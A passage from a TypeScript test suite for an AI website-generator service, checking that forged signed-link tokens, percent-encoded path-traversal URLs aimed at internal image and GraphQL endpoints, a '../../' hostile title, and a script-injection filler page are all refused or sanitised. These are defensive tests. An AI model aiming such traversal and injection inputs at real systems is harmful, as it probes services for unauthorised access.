    `${id}.${expires}.${mac.toUpperCase()}`,
    `${id.toUpperCase()}.${expires}.${mac}`,
    `${id}.${expires}.${mac}.extra`,
    `${id}.${expires}.`,
    `${id}..${mac}`,
    `${grant}%2Findex.html`,
    `..%2F${grant}`,
  ];
  const refused = await Promise.all(
    forgeries.map(async (forged) => `${forged} ${(await at(`${forged}/index.html`)).status}`),
  );
  expect(refused).toEqual(forgeries.map((forged) => `${forged} 403`));

  // Once the site is deleted, its link opens nothing.
  await ok(lattice, user.token, DELETE, { id: site.id });
  expect((await at(`${grant}/index.html`)).status).toBe(404);
  expect((await at(`${grant}/images/hero.png`)).status).toBe(404);

  // Checked last, so every other check above has run: odd names were 404, never a server error.
  expect(statuses).toEqual(odd.map((path) => `${path.slice(0, 20)} 404`));
});

test("the archive is named after the site's name (the plan's title), made safe", async () => {
  const { lattice, openai } = world;
  const user = await newCustomer(lattice);
  openai.replies([
    JSON.stringify({
      title: '../../Évil Title/..\\x',
      description: 'x',
      pages: [{ path: 'index.html', title: 'Home', purpose: 'home' }],
      images: [],
    }),
    JSON.stringify({ css: 'body { color: #111 }' }),
    JSON.stringify({ title: 'Home', html: '<h1>Named</h1>' }),
  ]);
  const { createSite } = await ok(lattice, user.token, CREATE_SITE, {
    input: { prompt: 'A site whose plan gives it a hostile title', pages: 1, images: 0 },
  });
  const site = await finishedVersion(lattice, user.token, createSite.id);
  expect(site.name).toBe('../../Évil Title/..\\x');
  const { site: withArchive } = await waitFor(async () => {
    const answer = await ok(
      lattice,
      user.token,
      'query($id: ID!) { site(id: $id) { archive { ... on Media { filename } } } }',
      { id: createSite.id },
    );
    return answer.site.archive ? answer : undefined;
  });
  expect(withArchive.archive.filename).toBe('evil-title-x-v1.zip');
});

test("ai's /internal/images and sites' /graphql cannot be reached by an outsider: not unsigned, not through the gateway", async () => {
  const { lattice } = world;
  const victim = await newCustomer(lattice);
  const body = JSON.stringify({
    userId: victim.id,
    purpose: 'site-image',
    key: 'stolen',
    prompt: 'A costly picture',
  });
  const ai = new URL(lattice.subgraphs.ai!.url).origin;
  const attempts = [
    `${ai}/internal/images`,
    `${origin()}/internal/images`,
    `${origin()}/sites/%2e%2e/internal/images`,
    `${origin()}/sites/..%2Finternal%2Fimages`,
    `${origin()}/media/%2e%2e/internal/images`,
  ];
  const statuses = await Promise.all(
    attempts.map(async (url) => {
      const response = await fetch(url, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body,
      });
      return response.status;
    }),
  );
  for (const [index, status] of statuses.entries())
    expect({ url: attempts[index], refused: status >= 400 && status < 500 }).toEqual({
      url: attempts[index],
      refused: true,
    });
  // Nor sites' own GraphQL endpoint through the preview's pass-through (unsigned, past the gateway's checks).
  for (const path of [
    '/sites/%2e%2e/graphql',
    '/sites/..%2Fgraphql',
    '/sites/preview/%2e%2e/%2e%2e/graphql',
  ]) {
    const response = await fetch(`${origin()}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${victim.token}` },
      body: JSON.stringify({ query: '{ _service { sdl } }' }),
    });
    const text = await response.text();
    expect({ path, status: response.status, leaked: text.includes('sdl') }).toMatchObject({
      path,
      leaked: false,
    });
    expect(response.status).toBeGreaterThanOrEqual(400);
  }
  const { me } = await ok(lattice, victim.token, '{ me { usage { meter used } } }');
  expect(me.usage.find((meter: any) => meter.meter === 'imageGenerations')?.used ?? 0).toBe(0);
  expect(
    world.openai.requests().filter((request) => JSON.stringify(request).includes('A costly picture')),
  ).toEqual([]);
});

test('a giant page (2 MB of HTML) from the model ends the version cleanly, and sites keeps serving', async () => {
  const { lattice, openai } = world;
  const user = await newCustomer(lattice);
  const giant = `<h1>Big</h1>${'<p onclick="x()">filler <script>alert(1)</script></p>'.repeat(40_000)}`;
  expect(giant.length).toBeGreaterThan(2_000_000);
  openai.replies(scriptedSite([{ path: 'index.html', title: 'Home', html: giant }]));
  const { createSite } = await ok(lattice, user.token, CREATE_SITE, {
    input: { prompt: 'A site whose model writes far too much', pages: 1, images: 0 },
  });
  const site = await finishedVersion(lattice, user.token, createSite.id);
  const version = site.latestVersion;
  if (version.status === 'READY') {
    const html = (await unzip(await downloadArchive(lattice, user.token, createSite.id)))
      .get('index.html')!
      .toString();
    expect(unsafeBits(html)).toEqual([]);
  } else {
    expect(version).toMatchObject({ status: 'FAILED', archive: null, previewUrl: null });
    expect(version.error).toMatch(/^The model's answer was unusable/);
  }
  // The subgraph is alive and answers quickly.
  const started = Date.now();
  expect((await ok(lattice, user.token, SITE, { id: createSite.id })).site.id).toBe(createSite.id);
  expect(Date.now() - started).toBeLessThan(2000);
});
